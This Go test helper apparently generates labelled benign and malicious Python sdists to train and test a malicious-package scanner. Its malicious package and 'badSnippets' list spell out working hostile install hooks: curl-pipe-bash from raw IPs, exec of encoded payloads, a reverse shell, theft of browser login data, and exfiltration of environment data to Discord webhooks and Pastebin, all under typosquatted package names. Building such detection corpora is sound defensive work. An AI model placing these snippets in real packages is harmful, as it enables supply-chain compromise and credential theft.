// Package vettingtest builds hand-made Python packages for tests of
// training and scanning: one obviously malicious and one ordinary benign
// package, randomised variants of both for a small training set, and
// writers for unpacked folders, sdists (.tar.gz, .zip) and a dataset
// folder with its manifest. Nothing here comes from the real dataset, and
// nothing is ever run: the "malicious" code is text in a file.
package vettingtest

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
)

// Package is a hand-made package: its name, version and files (path
// within the package, slash-separated, to content).
type Package struct {
	Name, Version string
	Files         map[string]string
}

// Root is the sdist top folder, name-version.
func (p Package) Root() string { return p.Name + "-" + p.Version }

// Line returns the 1-based line of the first line of file that contains
// substr, or 0.
func (p Package) Line(file, substr string) int {
	for i, l := range strings.Split(p.Files[file], "\n") {
		if strings.Contains(l, substr) {
			return i + 1
		}
	}
	return 0
}

func (p Package) paths() []string {
	var out []string
	for k := range p.Files {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// WriteDir writes the package unpacked into dir (created).
func (p Package) WriteDir(dir string) error {
	for _, name := range p.paths() {
		full := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(full, []byte(p.Files[name]), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// TarGz returns the package as an sdist .tar.gz under its Root folder.
func (p Package) TarGz() ([]byte, error) {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, name := range p.paths() {
		data := []byte(p.Files[name])
		hdr := &tar.Header{Name: p.Root() + "/" + name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg}
		if err := tw.WriteHeader(hdr); err != nil {
			return nil, err
		}
		if _, err := tw.Write(data); err != nil {
			return nil, err
		}
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	if err := gz.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// Zip returns the package as an sdist .zip under its Root folder.
func (p Package) Zip() ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range p.paths() {
		w, err := zw.Create(p.Root() + "/" + name)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write([]byte(p.Files[name])); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// WriteTarGz writes the .tar.gz sdist to path.
func (p Package) WriteTarGz(path string) error {
	b, err := p.TarGz()
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o644)
}

// WriteZip writes the .zip sdist to path.
func (p Package) WriteZip(path string) error {
	b, err := p.Zip()
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o644)
}

// Webhook is the Discord webhook URL of the malicious package.
const Webhook = "https://discord.com/api/webhooks/1188274451234567890/Xk3vQ9mZr7LbN2pWc5TfHy8JdA0sUeRiOgKt4MnBvCx6zYw1lPqE"

// Malicious returns the malicious package: setup.py overrides the install
// command with one that downloads a script and runs it, runs a base64
// payload with exec, and posts the user's environment to a Discord webhook.
func Malicious() Package {
	payload := base64.StdEncoding.EncodeToString([]byte(
		"import os,urllib.request;exec(urllib.request.urlopen('http://45.61.139.12/stage2.py').read())"))
	setup := `import base64
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

HOOK = "` + Webhook + `"


class PostInstall(install):
    def run(self):
        install.run(self)
        script = urllib.request.urlopen("http://45.61.139.12/init.sh").read()
        open("/tmp/.init.sh", "wb").write(script)
        subprocess.Popen(["bash", "/tmp/.init.sh"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        exec(base64.b64decode("` + payload + `"))
        data = ("user=" + os.getenv("USER", "") + "&home=" + os.path.expanduser("~")).encode()
        urllib.request.urlopen(urllib.request.Request(HOOK, data=data))


setup(
    name="reqeusts-toolbelt",
    version="0.0.1",
    packages=["reqeusts_toolbelt"],
    cmdclass={"install": PostInstall},
)
`
	return Package{Name: "reqeusts-toolbelt", Version: "0.0.1", Files: map[string]string{
		"setup.py":                      setup,
		"reqeusts_toolbelt/__init__.py": "",
		"PKG-INFO":                      "Metadata-Version: 2.1\nName: reqeusts-toolbelt\nVersion: 0.0.1\nSummary: reqeusts-toolbelt\n",
	}}
}

// mitLicense is the MIT licence text.
const mitLicense = `MIT License

Copyright (c) 2023 The tidytext authors

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.
`

// benignFuncs are ordinary library functions.
var benignFuncs = []string{
	`def slugify(text, sep="-"):
    """Return a lower-case, URL-friendly slug of text."""
    words = [w for w in re.split(r"\W+", text.lower()) if w]
    return sep.join(words)
`,
	`def wrap(text, width=72):
    """Wrap text into lines of at most width characters."""
    lines, current = [], []
    for word in text.split():
        if sum(len(w) + 1 for w in current) + len(word) > width:
            lines.append(" ".join(current))
            current = []
        current.append(word)
    if current:
        lines.append(" ".join(current))
    return lines
`,
	`def count_words(text):
    """Count how often each word occurs in text."""
    counts = {}
    for word in text.lower().split():
        counts[word] = counts.get(word, 0) + 1
    return counts
`,
	`def truncate(text, limit=80, suffix="..."):
    """Shorten text to limit characters, ending with suffix."""
    if len(text) <= limit:
        return text
    return text[: limit - len(suffix)].rstrip() + suffix
`,
	`def camel_to_snake(name):
    """Convert CamelCase to snake_case."""
    out = []
    for i, ch in enumerate(name):
        if ch.isupper() and i > 0:
            out.append("_")
        out.append(ch.lower())
    return "".join(out)
`,
	`class Table:
    """A small text table with aligned columns."""

    def __init__(self, header):
        self.header = list(header)
        self.rows = []

    def add(self, *cells):
        self.rows.append([str(c) for c in cells])

    def render(self):
        widths = [max(len(r[i]) for r in [self.header] + self.rows) for i in range(len(self.header))]
        return "\n".join(" ".join(c.ljust(w) for c, w in zip(r, widths)) for r in [self.header] + self.rows)
`,
	`def load_words(path):
    """Read one word per line from a text file."""
    with open(path, encoding="utf-8") as fh:
        return [line.strip() for line in fh if line.strip()]
`,
	`def dedent_block(text):
    """Remove the common leading whitespace of every line."""
    lines = text.splitlines()
    indents = [len(l) - len(l.lstrip()) for l in lines if l.strip()]
    cut = min(indents) if indents else 0
    return "\n".join(l[cut:] for l in lines)
`,
	`def parse_config(text):
    """Parse key = value lines, ignoring comments and blank lines."""
    config = {}
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if "=" in line:
            key, value = line.split("=", 1)
            config[key.strip()] = value.strip()
    return config
`,
	`def get_logger(name, level=logging.INFO):
    """Return a logger that writes to standard error."""
    log = logging.getLogger(name)
    if not log.handlers:
        handler = logging.StreamHandler()
        handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
        log.addHandler(handler)
    log.setLevel(level)
    return log
`,
}

func funcName(src string) string {
	first := strings.SplitN(src, "\n", 2)[0]
	first = strings.TrimPrefix(strings.TrimPrefix(first, "def "), "class ")
	return strings.FieldsFunc(first, func(r rune) bool { return r == '(' || r == ':' })[0]
}

// benign builds an ordinary package from the given function templates.
func benign(name, version string, modules [][]string) Package {
	mod := strings.ReplaceAll(name, "-", "_")
	files := map[string]string{}
	var exports []string
	for i, funcs := range modules {
		src := "\"\"\"Helpers for text processing.\"\"\"\nimport logging\nimport re\n\n\n" + strings.Join(funcs, "\n\n")
		mname := fmt.Sprintf("%s/part%d.py", mod, i+1)
		if i == 0 {
			mname = mod + "/core.py"
		}
		files[mname] = src
		var tests []string
		for _, f := range funcs {
			fn := funcName(f)
			exports = append(exports, fn)
			tests = append(tests, fmt.Sprintf("def test_%s_exists():\n    assert callable(%s)\n", strings.ToLower(fn), fn))
		}
		modName := strings.TrimSuffix(filepath.Base(mname), ".py")
		files[fmt.Sprintf("tests/test_%s.py", modName)] = fmt.Sprintf("from %s.%s import *  # noqa: F401,F403\n\n\n%s",
			mod, modName, strings.Join(tests, "\n\n"))
	}
	files[mod+"/__init__.py"] = fmt.Sprintf("\"\"\"%s: small text utilities.\"\"\"\n\n__version__ = %q\n", name, version)
	desc := fmt.Sprintf("# %s\n\nSmall, dependency-free text utilities: %s.\n\n## Install\n\n    pip install %s\n\n## Use\n\n"+
		"    from %s.core import *\n\nSee the tests for examples. Bug reports are welcome on GitHub.\n",
		name, strings.Join(exports, ", "), name, mod)
	files["README.md"] = desc
	files["LICENSE"] = mitLicense
	files["setup.py"] = fmt.Sprintf(`from setuptools import find_packages, setup

setup(
    name=%q,
    version=%q,
    packages=find_packages(exclude=["tests"]),
    python_requires=">=3.8",
)
`, name, version)
	var pkgInfo strings.Builder
	fmt.Fprintf(&pkgInfo, "Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: Small, dependency-free text utilities\n", name, version)
	fmt.Fprintf(&pkgInfo, "Home-page: https://github.com/tidytext/%s\nAuthor: Ada Lovelace\nAuthor-email: ada@lovelace-labs.org\n", name)
	fmt.Fprintf(&pkgInfo, "License: MIT\nProject-URL: Documentation, https://%s.readthedocs.io\nProject-URL: Source, https://github.com/tidytext/%s\n", name, name)
	pkgInfo.WriteString("Keywords: text,strings,utilities\nClassifier: Development Status :: 5 - Production/Stable\n" +
		"Classifier: License :: OSI Approved :: MIT License\nClassifier: Programming Language :: Python :: 3\n" +
		"Classifier: Topic :: Text Processing\nRequires-Python: >=3.8\nDescription-Content-Type: text/markdown\n\n")
	pkgInfo.WriteString(desc)
	files["PKG-INFO"] = pkgInfo.String()
	return Package{Name: name, Version: version, Files: files}
}

// Benign returns the benign package: a text-utility module with tests,
// README, LICENSE, an ordinary setup.py and complete PKG-INFO.
func Benign() Package {
	return benign("tidytext", "2.3.1", [][]string{benignFuncs[:5], benignFuncs[5:]})
}

// malicious behaviours for the training variants; %[1]s is a random IP,
// %[2]s a random token.
var badSnippets = []string{
	`exec(base64.b64decode("%[2]s"))`,
	`requests.post("https://discord.com/api/webhooks/%[3]s/%[2]s", json={"content": os.getenv("USERNAME", "")})`,
	`os.system("curl -fsSL http://%[1]s/x.sh | bash")`,
	"s = socket.socket()\ns.connect((\"%[1]s\", 4444))\nsubprocess.call([\"/bin/sh\", \"-i\"], stdin=s.fileno(), stdout=s.fileno())",
	"data = open(os.path.expanduser(\"~/.config/google-chrome/Default/Login Data\"), \"rb\").read()\nurllib.request.urlopen(\"http://%[1]s/up\", data=data)",
	`exec(bytes.fromhex("%[4]s").decode())`,
	`subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand %[2]s", shell=True)`,
	`requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": str(dict(os.environ))})`,
	`exec(zlib.decompress(base64.b64decode("%[2]s")))`,
	`urllib.request.urlretrieve("http://%[1]s/payload.exe", os.path.join(os.getenv("TEMP", "/tmp"), "svc.exe"))`,
}

func randToken(rng *rand.Rand, n int) string {
	const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = alpha[rng.IntN(len(alpha))]
	}
	return string(b)
}

// MaliciousVariant returns the i-th randomised malicious package: two to
// four behaviours, placed in an install hook of setup.py or at the top of
// the package's __init__.py. Half are bare packages with thin metadata,
// half are trojans: an ordinary-looking package (modules, tests, README,
// full metadata) with the behaviours injected.
func MaliciousVariant(rng *rand.Rand, i int) Package {
	names := []string{"reqests", "colourama", "python-dateutils", "urlib3", "beautifulsoup-4", "pytorch-nightly", "discord-selfbot", "crypt0-utils"}
	name := fmt.Sprintf("%s-%d", names[rng.IntN(len(names))], i)
	version := []string{"0.0.1", "1.0.0", "99.0.0", "0.1", "2.0.4"}[rng.IntN(5)]
	ip := fmt.Sprintf("%d.%d.%d.%d", 45+rng.IntN(150), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
	hexs := hex.EncodeToString([]byte("import os;os.system('id > /tmp/" + randToken(rng, 6) + "')"))
	perm := rng.Perm(len(badSnippets))[:2+rng.IntN(3)]
	var body []string
	for _, k := range perm {
		body = append(body, fmt.Sprintf(badSnippets[k], ip, randToken(rng, 60+rng.IntN(80)), fmt.Sprint(rng.Int64()), hexs))
	}
	imports := "import base64\nimport os\nimport socket\nimport subprocess\nimport urllib.request\nimport zlib\n\nimport requests\n"
	mod := strings.ReplaceAll(name, "-", "_")
	var p Package
	trojan := rng.IntN(2) == 0
	if trojan {
		p = benign(name, version, randomModules(rng))
	} else {
		meta := fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\n", name, version)
		if rng.IntN(2) == 0 {
			meta += "Summary: " + name + "\n"
		}
		if rng.IntN(3) == 0 {
			meta += "Author: " + randToken(rng, 8) + "\nAuthor-email: " + strings.ToLower(randToken(rng, 8)) + "@gmail.com\n"
		}
		p = Package{Name: name, Version: version, Files: map[string]string{"PKG-INFO": meta, mod + "/__init__.py": ""}}
	}
	if rng.IntN(2) == 0 {
		var ind []string
		for _, b := range body {
			ind = append(ind, "        "+strings.ReplaceAll(b, "\n", "\n        "))
		}
		p.Files["setup.py"] = imports + "from setuptools import setup\nfrom setuptools.command.install import install\n\n\n" +
			"class Run(install):\n    def run(self):\n        install.run(self)\n" + strings.Join(ind, "\n") + "\n\n\n" +
			fmt.Sprintf("setup(name=%q, version=%q, packages=[%q], cmdclass={\"install\": Run})\n", name, version, mod)
	} else {
		if !trojan {
			p.Files["setup.py"] = fmt.Sprintf("from setuptools import setup\n\nsetup(name=%q, version=%q, packages=[%q])\n", name, version, mod)
		}
		p.Files[mod+"/__init__.py"] = imports + "\n" + strings.Join(body, "\n") + "\n" + p.Files[mod+"/__init__.py"]
	}
	return p
}

func randomModules(rng *rand.Rand) [][]string {
	var modules [][]string
	for range 1 + rng.IntN(3) {
		var funcs []string
		for _, k := range rng.Perm(len(benignFuncs))[:2+rng.IntN(4)] {
			funcs = append(funcs, benignFuncs[k])
		}
		modules = append(modules, funcs)
	}
	return modules
}

// BenignVariant returns the i-th randomised benign package: one to three
// modules of ordinary functions with tests; most have a README, LICENSE
// and full metadata, some only a name, version and summary.
func BenignVariant(rng *rand.Rand, i int) Package {
	names := []string{"textkit", "strtools", "wordsmith", "linefmt", "prettytab", "casefold", "tinyparse", "wraptext"}
	name := fmt.Sprintf("%s%d", names[rng.IntN(len(names))], i)
	version := fmt.Sprintf("%d.%d.%d", 1+rng.IntN(4), rng.IntN(20), rng.IntN(10))
	p := benign(name, version, randomModules(rng))
	if rng.IntN(10) < 3 {
		p.Files["PKG-INFO"] = fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: text helpers\n", name, version)
		delete(p.Files, "README.md")
		delete(p.Files, "LICENSE")
	}
	return p
}

// WriteDataset writes a dataset folder: nMal malicious and nBen benign
// variants as .tar.gz sdists under malicious/ and benign/, and a
// manifest.csv listing them all with paper_split "train".
func WriteDataset(dir string, nMal, nBen int, seed uint64) error {
	rng := rand.New(rand.NewPCG(seed, 7))
	var rows [][]string
	add := func(label string, p Package, i int) error {
		b, err := p.TarGz()
		if err != nil {
			return err
		}
		rel := fmt.Sprintf("%s/%s.tar.gz", label, p.Root())
		full := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(full, b, 0o644); err != nil {
			return err
		}
		sum := sha256.Sum256(b)
		rows = append(rows, []string{fmt.Sprintf("%c%05d", label[0], i), p.Name, p.Version, label, "handmade", "test",
			rel, "sdist-tar.gz", "", hex.EncodeToString(sum[:]), fmt.Sprint(len(b)), "2024-01-01", "", "train"})
		return nil
	}
	for i := range nMal {
		if err := add("malicious", MaliciousVariant(rng, i), i); err != nil {
			return err
		}
	}
	for i := range nBen {
		if err := add("benign", BenignVariant(rng, i), i); err != nil {
			return err
		}
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write([]string{"id", "name", "version", "label", "source", "source_ref", "path", "format", "metadata_path",
		"sha256", "bytes", "added", "cluster", "paper_split"})
	w.WriteAll(rows)
	if err := w.Error(); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, "manifest.csv"), buf.Bytes(), 0o644)
}
